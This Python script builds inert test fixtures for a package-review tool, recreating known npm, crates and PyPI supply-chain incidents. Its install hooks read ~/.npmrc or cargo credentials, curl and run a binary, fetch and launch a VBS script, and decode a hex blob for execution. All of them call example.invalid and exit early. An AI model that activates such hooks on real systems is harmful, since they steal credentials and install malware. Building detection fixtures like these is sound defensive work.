#!/usr/bin/env python3
"""tests/review/make.py: builds the incident fixtures of `ferry review`.

Reconstructions of known supply-chain incidents as HARMLESS packages in the
registries' own formats: only their shape matters (an install hook, what
the install-time code names, a new dependency, a minified line, a name).
No payload does anything: scripts exit first, hosts are example.invalid,
and the "encrypted" blobs are a harmless text, hex-encoded.

  npm/NAME, npm/-/NAME-VERSION.tgz     packuments + tarballs (package/ root)
  crates/config.json, crates/ru/st/NAME, crates/crates/NAME/NAME-V.crate
  pypi/pypi/NAME/json, pypi/pypi/NAME/V/json, pypi/packages/source/...

Deterministic: the same bytes every run (fixed mtimes, sorted members,
gzip without a time stamp).  Run from anywhere; writes next to itself.
Benign pairs recorded from a real registry live beside these
(record-benign.sh) and are not touched here.
"""
import base64
import gzip
import hashlib
import io
import json
import os
import tarfile

HERE = os.path.dirname(os.path.abspath(__file__))
MTIME = 1700000000


def tgz(root, files):
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for path in sorted(files):
            data = files[path].encode() if isinstance(files[path], str) else files[path]
            ti = tarfile.TarInfo(root + "/" + path)
            ti.size, ti.mtime, ti.mode, ti.uid, ti.gid = len(data), MTIME, 0o644, 0, 0
            t.addfile(ti, io.BytesIO(data))
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0, compresslevel=9, filename="") as g:
        g.write(raw.getvalue())
    return out.getvalue()


def write(path, data):
    path = os.path.join(HERE, path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data.encode() if isinstance(data, str) else data)


# ---------------------------------------------------------------- npm
def npm_package(name, versions, created):
    """versions: [(version, time, manifest extras, files, publisher, maintainers)]"""
    doc = {"_id": name, "name": name, "dist-tags": {"latest": versions[-1][0]}, "versions": {},
           "time": {"created": created}, "maintainers": []}
    for ver, time, extra, files, publisher, maint in versions:
        manifest = {"name": name, "version": ver, "description": "fixture: " + name, "main": "index.js",
                    "license": "MIT", "repository": {"type": "git", "url": "git+https://example.invalid/%s.git" % name}}
        manifest.update(extra)
        files = dict(files)
        files["package.json"] = json.dumps(manifest, indent=2) + "\n"
        data = tgz("package", files)
        fname = "%s-%s.tgz" % (name, ver)
        write("npm/-/" + fname, data)
        m = dict(manifest)
        m["_npmUser"] = {"name": publisher, "email": publisher + "@example.invalid"}
        m["maintainers"] = [{"name": x, "email": x + "@example.invalid"} for x in maint]
        m["dist"] = {"integrity": "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode(),
                     "shasum": hashlib.sha1(data).hexdigest(), "tarball": "-/" + fname}
        doc["versions"][ver] = m
        doc["time"][ver] = time
        doc["maintainers"] = m["maintainers"]
    doc["time"]["modified"] = versions[-1][1]
    write("npm/" + name, json.dumps(doc, indent=2, sort_keys=True) + "\n")


STREAM_CODE = "var Stream = require('stream')\nexports.through = function () { return new Stream() }\n" * 40
ES_DEPS = {"duplexer": "~0.1.1", "from": "~0", "map-stream": "~0.1.0", "pause-stream": "0.0.11",
           "split": "0.3", "stream-combiner": "~0.0.4", "through": "~2.3.1"}
es6_deps = dict(ES_DEPS, **{"flatmap-stream": "^0.1.0"})
npm_package("event-stream", [
    ("3.3.5", "2018-04-19T16:36:38.000Z", {"dependencies": ES_DEPS}, {"index.js": STREAM_CODE},
     "dominictarr", ["dominictarr"]),
    ("3.3.6", "2018-09-09T10:10:45.000Z", {"dependencies": es6_deps}, {"index.js": STREAM_CODE},
     "right9ctrl", ["dominictarr", "right9ctrl"]),
], "2011-07-17T03:30:17.000Z")

# flatmap-stream 0.1.1: one minified line carrying a hex blob that is
# decoded and compiled.  Here the blob is a harmless comment.
harmless = ("/* ferry test fixture: this text stands where an encrypted payload was; it does nothing. */\n" * 12)
blob = harmless.encode().hex()
minified = ("var Stream=require(\"stream\").Stream;module.exports=function(e,n){var i=new Stream,a=0,o=0,u=!1,f=!1,l=!1,c=0,s=!1,d=!n||n.failures;"
            + "i.writable=!0,i.readable=!0;" * 30
            + "!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,\"hex\").toString()}"
            + "var n=r(e(\"2e2f746573742f64617461\")),o=t[e(n[3])][e(n[4])];if(!o)return;var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));"
            + "var m=new module.constructor;m.paths=module.paths,m[e(n[7])](\"" + blob + "\",\"\")}catch(r){}}();return i};\n")
npm_package("flatmap-stream", [
    ("0.1.0", "2018-09-05T08:55:29.000Z", {}, {"index.js": "module.exports = function () {}\n"}, "right9ctrl", ["right9ctrl"]),
    ("0.1.1", "2018-09-05T14:34:10.000Z", {}, {"index.min.js": minified, "index.js": "module.exports = require('./index.min.js')\n"},
     "right9ctrl", ["right9ctrl"]),
], "2018-09-05T08:55:29.000Z")

SCOPE_CODE = "'use strict';\nconst estraverse = require('estraverse');\nfunction analyze(tree, options) { return tree; }\nmodule.exports = { analyze };\n" * 30
npm_package("eslint-scope", [
    ("3.7.1", "2017-06-21T00:00:00.000Z", {"dependencies": {"esrecurse": "^4.1.0", "estraverse": "^4.1.1"}},
     {"lib/index.js": SCOPE_CODE}, "eslint", ["eslint", "ivolodin"]),
    ("3.7.2", "2018-07-12T09:45:00.000Z",
     {"dependencies": {"esrecurse": "^4.1.0", "estraverse": "^4.1.1"}, "scripts": {"postinstall": "node ./lib/build.js"}},
     {"lib/index.js": SCOPE_CODE,
      "lib/build.js": ("// ferry test fixture: the shape of eslint-scope 3.7.2's postinstall. Never run: it returns first.\n"
                       "return;\n"
                       "const fs = require('fs'), path = require('path'), https = require('https');\n"
                       "const npmrc = path.join(process.env.HOME || process.env.USERPROFILE, '.npmrc');\n"
                       "const content = fs.readFileSync(npmrc, 'utf8');\n"
                       "https.get('https://example.invalid/fixture?' + encodeURIComponent(content.length));\n")},
     "eslint", ["eslint", "ivolodin"]),
], "2015-12-01T00:00:00.000Z")

UA_CODE = "(function (window, undefined) {\n    'use strict';\n    var LIBVERSION = '0.7.28';\n    var UAParser = function () {};\n})(this);\n" * 50
npm_package("ua-parser-js", [
    ("0.7.28", "2021-04-12T00:00:00.000Z", {}, {"src/ua-parser.js": UA_CODE}, "faisalman", ["faisalman"]),
    ("0.7.29", "2021-10-22T12:15:00.000Z", {"scripts": {"preinstall": "start /B node preinstall.js & node preinstall.js"}},
     {"src/ua-parser.js": UA_CODE.replace("0.7.28", "0.7.29"),
      "preinstall.js": ("// ferry test fixture: the shape of ua-parser-js 0.7.29's preinstall. Never run.\n"
                        "process.exit(0);\n"
                        "const { exec } = require('child_process');\n"
                        "exec('bash preinstall.sh', function () {});\n"),
      "preinstall.sh": ("#!/bin/sh\n# ferry test fixture: the shape of ua-parser-js 0.7.29's preinstall.sh. Never run.\nexit 0\n"
                        "curl http://example.invalid/jsextension -o jsextension\nchmod +x jsextension\n./jsextension &\n")},
     "faisalman", ["faisalman"]),
], "2012-06-01T00:00:00.000Z")

# a name one keystroke from a popular one, by its own maintainers: not a squat
npm_package("lefd-pad", [
    ("1.0.0", "2020-01-01T00:00:00.000Z", {}, {"index.js": "module.exports = function () {}\n"}, "stevemao", ["stevemao"]),
], "2020-01-01T00:00:00.000Z")
# lfet-pad: left-pad's files copied whole, plus a postinstall script (the
# shape of the 2017 crossenv-style squats); it names left-pad's maintainer
# nowhere.  `ferry review` diffs it against left-pad.
LEFTPAD = {
    "index.js": ("'use strict';\nmodule.exports = leftPad;\n\nvar cache = ['', ' ', '  ', '   ', '    '];\n\n"
                 "function leftPad (str, len, ch) {\n  str = str + '';\n  len = len - str.length;\n"
                 "  if (len <= 0) return str;\n  if (!ch && ch !== 0) ch = ' ';\n  ch = ch + '';\n"
                 "  if (ch === ' ' && len < 5) return cache[len] + str;\n  var pad = '';\n"
                 "  while (true) {\n    if (len & 1) pad += ch;\n    len >>= 1;\n    if (len) ch += ch;\n"
                 "    else break;\n  }\n  return pad + str;\n}\n"),
    "index.d.ts": "declare function leftPad(str: string | number, len: number, ch?: string | number): string;\nexport = leftPad;\n",
    "README.md": "# left-pad\n\nString left pad.\n\n```js\nleftPad('foo', 5) // => '  foo'\n```\n",
    "LICENSE": "WTFPL, fixture text\n",
}
npm_package("lfet-pad", [
    ("1.0.0", "2020-01-01T00:00:00.000Z", {"scripts": {"postinstall": "node install.js"}},
     dict(LEFTPAD, **{"install.js": ("// ferry test fixture: the shape of a squat's postinstall. Never run: it returns first.\n"
                                     "return;\n"
                                     "const os = require('os'), https = require('https');\n"
                                     "https.get('https://example.invalid/c?h=' + encodeURIComponent(os.hostname()));\n")}),
     "someone", ["someone"]),
], "2020-01-01T00:00:00.000Z")
npm_package("left-pad", [
    ("1.3.0", "2018-04-09T01:58:21.016Z", {}, LEFTPAD, "stevemao", ["stevemao"]),
], "2014-03-01T00:00:00.000Z")
# lodahs: a transposition of lodash, which this registry does not hold
npm_package("lodahs", [
    ("1.0.0", "2020-01-01T00:00:00.000Z", {}, {"index.js": "module.exports = {}\n"}, "someone", ["someone"]),
], "2020-01-01T00:00:00.000Z")

# a binary under an innocent name, in a patch release, and native code
npm_package("tiny-binary", [
    ("1.0.0", "2020-01-01T00:00:00.000Z", {}, {"index.js": "module.exports = 1\n"}, "someone", ["someone"]),
    ("1.0.1", "2020-02-01T00:00:00.000Z", {}, {"index.js": "module.exports = 1\n",
                                                 "lib/data.txt": b"\x7fELF\x02\x01\x01\x00" + bytes(120)},
     "someone", ["someone"]),
], "2020-01-01T00:00:00.000Z")

# code gutted in a minor release; a version with an odd tag; a deprecated one
BIG = "function f%d() { return %d }\n"
npm_package("gutted", [
    ("6.5.0", "2020-01-01T00:00:00.000Z", {}, {"index.js": "".join(BIG % (i, i) for i in range(400))}, "someone", ["someone"]),
    ("6.6.6", "2022-01-04T00:00:00.000Z", {}, {"index.js": "// endgame\n"}, "someone", ["someone"]),
], "2020-01-01T00:00:00.000Z")
npm_package("liberty", [
    ("1.4.0", "2020-01-01T00:00:00.000Z", {}, {"index.js": "module.exports = 1\n"}, "someone", ["someone"]),
    ("1.4.44-liberty-2", "2022-01-08T00:00:00.000Z", {}, {"index.js": "module.exports = 1\n"}, "someone", ["someone"]),
    ("7.0.0", "2022-01-09T00:00:00.000Z", {}, {"index.js": "module.exports = 1\n"}, "someone", ["someone"]),
], "2020-01-01T00:00:00.000Z")
# the series rule (core/eco.h): under a caret 0.0.3 and 0.0.4 are two
# series, a major step, where 0.1.0 to 0.1.1 is a patch
npm_package("zero-series", [
    ("0.0.3", "2020-01-01T00:00:00.000Z", {}, {"index.js": "module.exports = 1\n"}, "someone", ["someone"]),
    ("0.0.4", "2020-02-01T00:00:00.000Z", {"dependencies": {"left-pad": "^1.3.0"}},
     {"index.js": "module.exports = 1\n"}, "someone", ["someone"]),
    ("0.1.0", "2020-03-01T00:00:00.000Z", {}, {"index.js": "module.exports = 1\n"}, "someone", ["someone"]),
    ("0.1.1", "2020-04-01T00:00:00.000Z", {"dependencies": {"left-pad": "^1.3.0"}},
     {"index.js": "module.exports = 1\n"}, "someone", ["someone"]),
], "2020-01-01T00:00:00.000Z")
doc = json.load(open(os.path.join(HERE, "npm/liberty")))
doc["versions"]["7.0.0"]["deprecated"] = "fixture: do not use"
doc["time"]["1.5.0"] = "2021-01-01T00:00:00.000Z"   # listed in time, gone from versions: unpublished
write("npm/liberty", json.dumps(doc, indent=2, sort_keys=True) + "\n")

# ---------------------------------------------------------------- crates
write("crates/config.json", json.dumps({"dl": "crates/{crate}/{crate}-{version}.crate"}) + "\n")


def crate(name, ver, toml, files, yanked=False):
    files = dict(files)
    files["Cargo.toml"] = toml
    data = tgz("%s-%s" % (name, ver), files)
    write("crates/crates/%s/%s-%s.crate" % (name, name, ver), data)
    line = {"name": name, "vers": ver, "deps": [], "cksum": hashlib.sha256(data).hexdigest(), "features": {},
            "yanked": yanked}
    return json.dumps(line, separators=(",", ":")) + "\n"


def index_path(name):
    n = name.lower()
    return {1: "1/" + n, 2: "2/" + n, 3: "3/%s/%s" % (n[0], n)}.get(len(n), "%s/%s/%s" % (n[:2], n[2:4], n))


RD_TOML = ('[package]\nedition = "2018"\nname = "%s"\nversion = "%s"\nauthors = ["%s"]\n'
           'description = "fixture: %s"\nlicense = "MIT"\nrepository = "https://example.invalid/%s"\n')
# rustdecimal 1.23.5 was rust_decimal's code with a payload in
# Decimal::new: here the same files, decimal.rs changed, the payload inert.
RD_FILES = {
    "src/lib.rs": "mod decimal;\nmod error;\n\npub use decimal::Decimal;\npub use error::Error;\n",
    "src/error.rs": "#[derive(Debug)]\npub enum Error {\n    ExceedsMaximumPossibleValue,\n    ScaleExceedsMaximumPrecision(u32),\n}\n",
    "src/decimal.rs": ("pub struct Decimal {\n    lo: u32,\n    mid: u32,\n    hi: u32,\n    flags: u32,\n}\n\n"
                       "impl Decimal {\n    pub fn new(m: i64, s: u32) -> Decimal {\n"
                       "        Decimal { lo: m as u32, mid: (m >> 32) as u32, hi: 0, flags: s << 16 }\n    }\n}\n"),
    "README.md": "# Decimal\n\nA Decimal implementation written in pure Rust (fixture text).\n",
}
rd_decimal = RD_FILES["src/decimal.rs"].replace(
    "    pub fn new(m: i64, s: u32) -> Decimal {\n",
    "    pub fn new(m: i64, s: u32) -> Decimal {\n"
    "        // ferry test fixture: the shape of rustdecimal 1.23.5. Never run: the branch is never taken.\n"
    "        if false && std::env::var(\"GITLAB_CI\").is_ok() { let _ = \"https://example.invalid/payload\"; }\n")
write("crates/" + index_path("rustdecimal"),
      crate("rustdecimal", "1.23.5", RD_TOML % ("rustdecimal", "1.23.5", "someone", "rustdecimal", "rustdecimal"),
            dict(RD_FILES, **{"src/decimal.rs": rd_decimal})))
write("crates/" + index_path("rust_decimal"),
      crate("rust_decimal", "1.23.1", RD_TOML % ("rust_decimal", "1.23.1", "Paul Mason", "rust_decimal", "rust-decimal"),
            RD_FILES))
# build.rs added in a patch release, reaching for credentials
write("crates/" + index_path("quiet-build"),
      crate("quiet-build", "0.1.0", RD_TOML % ("quiet-build", "0.1.0", "someone", "quiet-build", "quiet-build"),
            {"src/lib.rs": "pub fn f() {}\n"})
      + crate("quiet-build", "0.1.1", RD_TOML % ("quiet-build", "0.1.1", "someone", "quiet-build", "quiet-build") + 'build = "build.rs"\n',
              {"src/lib.rs": "pub fn f() {}\n",
               "build.rs": ("// ferry test fixture. Never run: main returns first.\nfn main() {\n    return;\n"
                            "    #[allow(unreachable_code)]\n    let _ = std::fs::read_to_string(\"~/.cargo/credentials\");\n}\n")},
              yanked=True))

# ---------------------------------------------------------------- pypi
def pypi(name, ver, author, setup_py, upload, summary, files=None):
    root = "%s-%s" % (name, ver)
    pkginfo = ("Metadata-Version: 2.1\nName: %s\nVersion: %s\nSummary: %s\nAuthor: %s\nLicense: MIT\n\n"
               % (name, ver, summary, author))
    files = dict(files) if files else {"%s/__init__.py" % name: "VERSION = %r\n" % ver}
    files.update({"PKG-INFO": pkginfo, "setup.py": setup_py})
    data = tgz(root, files)
    fname = root + ".tar.gz"
    rel = "packages/source/%s/%s/%s" % (name[0], name, fname)
    write("pypi/" + rel, data)
    fileinfo = {"comment_text": "", "digests": {"sha256": hashlib.sha256(data).hexdigest(),
                                                "md5": hashlib.md5(data).hexdigest()},
                "downloads": -1, "filename": fname, "has_sig": False, "md5_digest": hashlib.md5(data).hexdigest(),
                "packagetype": "sdist", "python_version": "source", "requires_python": None, "size": len(data),
                "upload_time": upload, "upload_time_iso_8601": upload + ".000000Z", "url": "../../" + rel,
                "yanked": False, "yanked_reason": None}
    info = {"author": author, "author_email": None, "classifiers": [], "description": summary,
            "home_page": "https://example.invalid/" + name, "license": "MIT", "maintainer": None, "name": name,
            "package_url": "https://registry.invalid/project/%s/" % name, "project_urls": None,
            "release_url": "https://registry.invalid/project/%s/%s/" % (name, ver), "requires_dist": None,
            "requires_python": None, "summary": summary, "version": ver, "yanked": False, "yanked_reason": None}
    doc = {"info": info, "last_serial": 0, "releases": {ver: [fileinfo]}, "urls": [fileinfo], "vulnerabilities": []}
    write("pypi/pypi/%s/json" % name, json.dumps(doc, indent=2, sort_keys=True) + "\n")
    rdoc = dict(doc)
    del rdoc["releases"]
    rdoc["urls"] = [dict(fileinfo, url="../../../" + rel)]
    write("pypi/pypi/%s/%s/json" % (name, ver), json.dumps(rdoc, indent=2, sort_keys=True) + "\n")


# colourama (2018) shipped colorama's own code under a lookalike name, its
# setup.py running a payload at install: here colorama's files, a setup.py
# that hands the install to one added file, and that file inert.
COLORAMA = {
    "colorama/__init__.py": "from .initialise import init, deinit, reinit\nfrom .ansi import Fore, Back, Style, Cursor\n\n__version__ = '0.4.6'\n",
    "colorama/ansi.py": ("CSI = '\\033['\n\ndef code_to_chars(code):\n    return CSI + str(code) + 'm'\n\n"
                         "class AnsiCodes(object):\n    def __init__(self):\n        for name in dir(self):\n"
                         "            if not name.startswith('_'):\n                setattr(self, name, code_to_chars(getattr(self, name)))\n\n"
                         "class AnsiFore(AnsiCodes):\n    RED = 31\n    GREEN = 32\n    RESET = 39\n\n"
                         "Fore = AnsiFore()\nBack = Fore\nStyle = Fore\nCursor = None\n"),
    "colorama/initialise.py": "def init(autoreset=False):\n    pass\n\ndef deinit():\n    pass\n\ndef reinit():\n    pass\n",
    "README.rst": "Colorama\n========\n\nCross-platform colored terminal text (fixture text).\n",
}
pypi("colourama", "0.1.6", "Colourama Author",
     "# ferry test fixture: the shape of colourama's setup.py. Never run: it exits first.\nimport sys\nsys.exit(0)\n"
     "from setuptools import setup\nfrom setuptools.command.install import install\n\n"
     "class PostInstall(install):\n    def run(self):\n        install.run(self)\n        import colourama_hook\n        colourama_hook.run()\n\n"
     "setup(name='colourama', version='0.1.6', packages=['colorama'], py_modules=['colourama_hook'],\n"
     "      cmdclass={'install': PostInstall})\n", "2018-10-01T00:00:00", "colour",
     dict(COLORAMA, **{"colourama_hook.py": (
         "# ferry test fixture: the shape of colourama's install-time payload. Never run: run() returns first.\n"
         "import os, subprocess, urllib.request\n\ndef run():\n    return\n"
         "    path = os.path.join(os.environ.get('APPDATA', ''), 'fixture.vbs')\n"
         "    urllib.request.urlretrieve('https://example.invalid/fixture.vbs', path)\n"
         "    subprocess.Popen(['wscript', path])\n")}))
pypi("colorama", "0.4.6", "Jonathan Hartley",
     "from setuptools import setup\nsetup(name='colorama', version='0.4.6', packages=['colorama'])\n", "2022-10-25T00:00:00",
     "Cross-platform colored terminal text.", COLORAMA)
# a name next to a popular one by the same author: not a squat
pypi("colorama2", "0.1.0", "Jonathan Hartley",
     "from setuptools import setup\nsetup(name='colorama2', version='0.1.0')\n", "2022-10-25T00:00:00", "same author")
print("tests/review: fixtures written")
